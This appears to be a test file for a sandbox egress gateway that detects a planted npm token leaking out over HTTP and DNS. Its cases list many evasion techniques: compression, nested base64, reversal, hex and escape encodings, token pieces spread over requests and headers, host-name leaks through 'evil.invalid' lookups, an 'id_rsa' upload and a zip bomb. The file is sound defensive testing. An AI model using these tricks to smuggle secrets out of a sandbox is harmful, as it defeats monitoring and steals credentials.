import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { Gateway } from '../../../src/egress/gateway.js';
import { exchange, gatewayWith, keeper, lookUp, securely } from '../harness.js';

const kept = keeper();
const TOKEN = 'npm_Xk29fQpL7vRt3WsZ8yBnC4dMhJ6gUeA1oTiD';
const identity = {
  hostname: '0f1e2d3c4b5a',
  user: 'ci',
  home: '/home/ci',
  variables: ['LOGNAME', 'npm_config_registry', 'NODE_EXTRA_CA_CERTS'],
};
const SINK = { status: 404 };

const sinking = (): Promise<Gateway> =>
  gatewayWith({ secrets: [{ name: 'npm token', value: TOKEN }], identity, sink: SINK, caps: { refusedMs: 500 } }).then(
    kept,
  );

/** A request to a refused host over TLS, as a program in the sandbox sends it. */
function send(gateway: Gateway, head: string, body: Buffer | string = ''): Promise<string> {
  const bytes = Buffer.from(body);
  const request = `${head}\r\nHost: x.invalid\r\nConnection: close\r\nContent-Length: ${bytes.length}\r\n\r\n`;
  return securely(gateway, 'x.invalid:443', gateway.authority, request + bytes.toString('latin1'));
}
const post = (gateway: Gateway, body: Buffer | string, more = '') =>
  send(gateway, `POST /in HTTP/1.1${more === '' ? '' : `\r\n${more}`}`, body);
const plain = (name: string) => `GET http://${name}/ HTTP/1.1\r\nHost: ${name}\r\nConnection: close\r\n\r\n`;
const sent = (gateway: Gateway) => gateway.records()[0]?.requests;

const JSON_BODY = JSON.stringify({ token: TOKEN });
const hex = (text: string) => Buffer.from(text).toString('hex');
const pieces = (size: number): readonly string[] => TOKEN.match(new RegExp(`.{1,${size}}`, 'g')) ?? [];
/** Words that look encoded and are nothing. */
const many = (count: number) => Array.from({ length: count }, (_, i) => b64(`junk junk junk junk ${i}`)).join(' ');
const b64 = (text: Buffer | string) => Buffer.from(text).toString('base64');

describe('a planted secret is recognised in a body', () => {
  it.each<[what: string, body: Buffer | string, header: string, encoding: string]>([
    ['as it is', JSON_BODY, '', 'plain'],
    ['compressed (gzip)', gzipSync(JSON_BODY), 'Content-Encoding: gzip', 'plain'],
    ['compressed (br)', brotliCompressSync(JSON_BODY), 'Content-Encoding: br', 'plain'],
    ['compressed (deflate)', deflateSync(JSON_BODY), 'Content-Encoding: deflate', 'plain'],
    ['compressed (raw deflate)', deflateRawSync(JSON_BODY), 'Content-Encoding: deflate', 'plain'],
    ['compressed twice', gzipSync(gzipSync(JSON_BODY)), 'Content-Encoding: gzip, gzip', 'plain'],
    ['compressed without saying so', gzipSync(JSON_BODY), '', 'plain in gzip'],
    ['in base64 twice', b64(b64(JSON_BODY)), '', 'base64 in base64'],
    ['in base64 of gzip', JSON.stringify({ data: b64(gzipSync(JSON_BODY)) }), '', 'plain in gzip in base64'],
    ['backwards', [...JSON_BODY].reverse().join(''), '', 'plain in reverse'],
    ['backwards in base64', b64([...JSON_BODY].reverse().join('')), '', 'plain in reverse in base64'],
    ['in hexadecimal of base64', Buffer.from(b64(JSON_BODY)).toString('hex'), '', 'base64 in hex'],
    [
      'in escapes of JSON',
      `{"a":"${[...TOKEN].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join('')}"}`,
      '',
      'plain in escapes',
    ],
    ['in %xx', [...TOKEN].map((c) => `%${c.charCodeAt(0).toString(16)}`).join(''), '', 'plain in escapes'],
    ['in base64 of zlib (Python)', JSON.stringify({ d: b64(deflateSync(JSON_BODY)) }), '', 'plain in zlib in base64'],
    ['in zlib without saying so', deflateSync(JSON_BODY), '', 'plain in zlib'],
    ['in base64 of raw deflate', b64(deflateRawSync(JSON_BODY)), '', 'plain in deflate in base64'],
    ['in UTF-16', Buffer.from(JSON_BODY, 'utf16le'), '', 'plain in UTF-16'],
    ['in base64 of UTF-16 (PowerShell)', b64(Buffer.from(JSON_BODY, 'utf16le')), '', 'plain in UTF-16 in base64'],
    ['behind a folder', `"/c/${b64(gzipSync(JSON_BODY))}"`, '', 'plain in gzip in base64'],
    ['behind a prefix', `k_${b64(b64(JSON_BODY))}`, '', 'base64 in base64'],
    ['behind half a byte', `a${Buffer.from(b64(JSON_BODY)).toString('hex')}`, '', 'base64 in hex'],
    ['in hexadecimal with colons', hex(TOKEN).match(/../g)?.join(':') ?? '', '', 'plain in hex'],
    ['in \\x', [...TOKEN].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join(''), '', 'plain in escapes'],
    ['in entities', [...TOKEN].map((c) => `&#${c.charCodeAt(0)};`).join(''), '', 'plain in escapes'],
    ['in numbers', JSON.stringify([...Buffer.from(TOKEN)]), '', 'plain in numbers'],
    ['as Node writes a buffer', JSON.stringify(Buffer.from(TOKEN)), '', 'plain in numbers'],
    ['in a list of pieces', JSON.stringify(pieces(8)), '', 'plain in pieces'],
    ['in fields of pieces', JSON.stringify({ ...pieces(5) }), '', 'plain in pieces'],
    [
      'in a form of pieces',
      pieces(8)
        .map((piece, i) => `k${i}=${piece}`)
        .join('&'),
      '',
      'plain in pieces',
    ],
    [
      'in parts',
      `${pieces(8)
        .map((piece) => `--x\r\nA: b\r\n\r\n${piece}\r\n`)
        .join('')}--x--`,
      '',
      'plain in pieces',
    ],
    ['behind 199 others', `${many(199)} ${b64(b64(JSON_BODY))}`, '', 'base64 in base64'],
  ])('%s', async (_what, body, header, encoding) => {
    const gateway = await sinking();
    expect(await post(gateway, body, header)).toMatch(/^HTTP\/1.1 200 /);
    expect(gateway.leaks()).toEqual([
      expect.objectContaining({ secret: 'npm token', host: 'x.invalid', where: 'body', encoding }),
    ]);
  });

  it('more than is read is reported', async () => {
    const gateway = await sinking();
    await post(gateway, `${many(201)} ${b64(b64('{"some": "other words"}'))}`);
    expect(gateway.records()[0]?.unread).toEqual([{ reason: 'too-much', serverName: null, count: 1 }]);
  });

  it('a body of a megabyte that means nothing holds up nobody for long', async () => {
    const gateway = await sinking();
    let longest = 0;
    let before = performance.now();
    const watching = setInterval(() => {
      longest = Math.max(longest, performance.now() - before);
      before = performance.now();
    }, 5);
    await post(gateway, `${many(20_000)}`);
    clearInterval(watching);
    expect(longest).toBeLessThan(1_500);
  });

  it.each<[what: string, request: (piece: string, i: number) => readonly [head: string, body?: string], where: string]>(
    [
      ['the end of paths', (piece) => [`GET /p/${piece} HTTP/1.1`], 'url'],
      ['the middle of paths', (piece) => [`GET /p/${piece}/x.png HTTP/1.1`], 'url'],
      ['queries', (piece, i) => [`GET /?n=${i}&d=${piece} HTTP/1.1`], 'url'],
      ['queries beside what stays', (piece) => [`GET /c?d=${piece}&v=12345 HTTP/1.1`], 'url'],
      ['headers', (piece, i) => [`GET / HTTP/1.1\r\nX-D: ${piece}\r\nX-N: ${i}`], 'header'],
      ['JSON', (piece) => ['POST / HTTP/1.1', JSON.stringify({ d: piece })], 'body'],
      ['forms', (piece) => ['POST / HTTP/1.1', `d=${piece}`], 'body'],
      ['bodies', (piece) => ['POST / HTTP/1.1', piece], 'body'],
    ],
  )('in pieces over many requests, in %s', async (_what, request, where) => {
    const gateway = await sinking();
    for (const [i, piece] of pieces(7).entries()) await send(gateway, ...request(piece, i));
    expect(gateway.leaks()[0]).toMatchObject({ secret: 'npm token', where });
  });

  it.each<[what: string, path: string, header: string, where: string]>([
    ['base64 twice', `/?d=${encodeURIComponent(b64(b64(JSON_BODY)))}`, '', 'url'],
    ['base64 of gzip', `/?d=${encodeURIComponent(b64(gzipSync(JSON_BODY)))}`, '', 'url'],
    ['backwards', `/?d=${[...TOKEN].reverse().join('')}`, '', 'url'],
    ['base64, backwards', `/?d=${[...b64(TOKEN)].reverse().join('')}`, '', 'url'],
    ['%25xx', `/?d=${[...TOKEN].map((c) => `%25${c.charCodeAt(0).toString(16)}`).join('')}`, '', 'url'],
    [
      'base64 in steps of 7',
      `/${b64(TOKEN)
        .match(/.{1,7}/g)
        ?.join('/')}`,
      '',
      'url',
    ],
    [
      'parameters of 8',
      `/?${pieces(8)
        .map((piece, i) => `k${i}=${piece}`)
        .join('&')}`,
      '',
      'url',
    ],
    ['base64 twice', '/', `X-D: ${b64(b64(JSON_BODY))}`, 'header'],
    ['base64 of gzip', '/', `Cookie: s=${b64(gzipSync(JSON_BODY))}`, 'header'],
    ['backwards', '/', `X-D: ${[...TOKEN].reverse().join('')}`, 'header'],
    [
      'several of 8',
      '/',
      pieces(8)
        .map((piece, i) => `X-${i}: ${piece}`)
        .join('\r\n'),
      'header',
    ],
  ])('in the head: %s', async (_what, path, header, where) => {
    const gateway = await sinking();
    await send(gateway, `GET ${path} HTTP/1.1${header === '' ? '' : `\r\n${header}`}`);
    expect(gateway.leaks()[0]).toMatchObject({ secret: 'npm token', where });
  });
});

describe('what was sent is on record', () => {
  it.each<[what: string, body: Buffer | string, header: string, shown: object]>([
    ['JSON', '{"a": 1,\n "b": 2}', '', { bodyKind: 'json', body: '{"a": 1, "b": 2}' }],
    ['a form', 'a=1&b=2', 'Content-Type: application/x-www-form-urlencoded', { bodyKind: 'form', body: 'a=1&b=2' }],
    [
      'parts',
      '--x\r\nContent-Disposition: form-data; name="f"; filename="id_rsa"\r\n\r\nkey\r\n--x--\r\n',
      'Content-Type: multipart/form-data; boundary=x',
      { bodyKind: 'multipart', body: expect.stringContaining('filename="id_rsa" key') },
    ],
    ['compressed JSON', gzipSync('{"a":1}'), 'Content-Encoding: gzip', { bodyKind: 'json', body: '{"a":1}' }],
    ['binary data', Buffer.from([0, 255, 1, 2]), '', { bodyKind: 'binary', body: '' }],
    ['what is no gzip', 'hello\xff', 'Content-Encoding: gzip', { bodyKind: 'unread', body: '' }],
    ['an encoding that is not undone', Buffer.from([1, 2, 200]), 'Content-Encoding: zstd', { bodyKind: 'unread' }],
    ['markup and control characters', '<b>\x1b[31m&\x07', '', { bodyKind: 'text', body: '<b>[31m&' }],
    ['more than is shown', 'x'.repeat(5_000), '', { body: 'x'.repeat(1_000), bodyBytes: 5_000 }],
  ])('%s', async (_what, body, header, shown) => {
    const gateway = await sinking();
    await post(gateway, body, header);
    expect(sent(gateway)).toEqual([expect.objectContaining({ method: 'POST', path: '/in', status: 200, ...shown })]);
  });

  it('and what it reveals about the sandbox', async () => {
    const gateway = await sinking();
    const environment = { LOGNAME: 'ci', npm_config_registry: 'https://r.example/', NODE_EXTRA_CA_CERTS: '/x' };
    await post(gateway, b64(JSON.stringify({ host: identity.hostname, cwd: '/home/ci/project', ...environment })));
    await send(gateway, `GET /?h=${identity.hostname} HTTP/1.1`);
    await send(gateway, 'GET /honest?version=1.2.3 HTTP/1.1');
    expect(sent(gateway)?.map(({ tells }) => tells)).toEqual([
      ['the host name', 'the home folder', 'the user name', 'the environment'],
      ['the host name'],
      [],
    ]);
  });

  it('an https URL that is sent to the proxy in the open (axios) is one of port 443', async () => {
    const gateway = await sinking();
    const head =
      'POST https://open.invalid/in HTTP/1.1\r\nHost: open.invalid\r\nConnection: close\r\nContent-Length: 5';
    expect(await exchange(gateway.ports.proxy, `${head}\r\n\r\nhello`)).toContain(' 200 OK');
    expect(gateway.records()).toEqual([expect.objectContaining({ host: 'open.invalid', port: 443, allowed: false })]);
    expect(sent(gateway)).toEqual([expect.objectContaining({ method: 'POST', path: '/in', body: 'hello' })]);
  });

  it('equal requests are one, counted; further ones are counted alone', async () => {
    const gateway = await sinking();
    for (let i = 0; i < 3; i += 1) await send(gateway, 'GET /same HTTP/1.1');
    for (let i = 0; i < 30; i += 1) await send(gateway, `GET /${i} HTTP/1.1`);
    const [record] = gateway.records();
    expect(record?.requests).toHaveLength(20);
    expect(record?.requests[0]).toMatchObject({ path: '/same', count: 3 });
    expect(record?.requestsLeft).toBe(11);
  });

  it('header values are kept for inspection, also those of equal requests', async () => {
    const gateway = await sinking();
    for (const value of ['first', 'second', 'first']) await send(gateway, `GET /same HTTP/1.1\r\nX-Data: ${value}`);
    expect(sent(gateway)?.map(({ headerValues, count }) => [headerValues, count])).toEqual([['first\nsecond', 3]]);
  });

  it.each<[what: string, trailer: string, found: object]>([
    ['a planted secret', `X-Data: ${TOKEN}`, { secret: 'npm token', where: 'header' }],
    ['one in base64 twice', `X-Data: ${b64(b64(JSON_BODY))}`, { secret: 'npm token', where: 'header' }],
  ])('%s in a trailer is found', async (_what, trailer, found) => {
    const gateway = await sinking();
    const head =
      'POST /in HTTP/1.1\r\nHost: x.invalid\r\nConnection: close\r\nTransfer-Encoding: chunked\r\nTrailer: X-Data';
    const request = `${head}\r\n\r\n2\r\nhi\r\n0\r\n${trailer}\r\n\r\n`;
    await securely(gateway, 'x.invalid:443', gateway.authority, request);
    expect(gateway.leaks()[0]).toMatchObject(found);
    expect(sent(gateway)?.[0]?.headerValues).toContain(trailer.slice('X-Data: '.length));
  });

  it.each<[what: string, request: (tail: string) => readonly [head: string, body: string]]>([
    ['in a header', (tail: string) => [`GET /x HTTP/1.1\r\nX-Data: ${tail}`, '']],
    ['behind what is shown of a path', (tail: string) => [`GET /${'p'.repeat(600)}${tail} HTTP/1.1`, '']],
    ['behind what is shown of a body', (tail: string) => ['POST /x HTTP/1.1', 'y'.repeat(1_200) + tail]],
  ])('what tells of the sandbox is not one with an equal request that does not: %s', async (_what, request) => {
    const gateway = await sinking();
    for (const tail of ['words', identity.hostname, identity.hostname]) await send(gateway, ...request(tail));
    expect(sent(gateway)?.map(({ tells, count }) => [tells, count])).toEqual([
      [[], 1],
      [['the host name'], 2],
    ]);
  });

  it.each([
    ['DNS', async (gateway: Gateway, name: string) => lookUp(gateway, name)],
    ['the proxy', async (gateway: Gateway, name: string) => exchange(gateway.ports.proxy, plain(name))],
  ])('and what a name tells of it, by %s', async (_way, ask) => {
    const gateway = await sinking();
    await ask(gateway, `${identity.hostname}.ci.evil.invalid`);
    await ask(gateway, 'other.evil.invalid');
    expect(gateway.records().map(({ tells }) => tells)).toEqual([['the host name'], undefined]);
  });

  it('data about the sandbox is not hidden by a flood before it', async () => {
    const gateway = await sinking();
    for (let i = 0; i < 30; i += 1) await send(gateway, `GET /${i} HTTP/1.1`);
    await send(gateway, `GET /?h=${identity.hostname} HTTP/1.1`);
    const [record] = gateway.records();
    expect(record?.requests).toHaveLength(20);
    expect(record?.requests.at(-1)?.tells).toEqual(['the host name']);
    expect(record?.requestsLeft).toBe(11);
  });

  it('more bodies than are read of one job are counted', async () => {
    const gateway = await sinking();
    for (let i = 0; i < 16; i += 1) await post(gateway, `${i} ${'words '.repeat(170_000)}`);
    expect(gateway.unreadBodies()).toBe(0);
    await post(gateway, `last ${'words '.repeat(170_000)}`);
    expect(gateway.unreadBodies()).toBe(1);
    expect(gateway.records()[0]?.unread).toEqual([{ reason: 'too-much', serverName: null, count: 1 }]);
  });

  it('a zip bomb is abandoned and reported', async () => {
    const gateway = await sinking();
    const before = process.memoryUsage().rss;
    await post(gateway, gzipSync(Buffer.alloc(512 * 1024 ** 2)), 'Content-Encoding: gzip');
    expect(process.memoryUsage().rss - before).toBeLessThan(700 * 1024 ** 2);
    expect(gateway.records()[0]?.unread).toEqual([{ reason: 'too-much', serverName: null, count: 1 }]);
  });
});
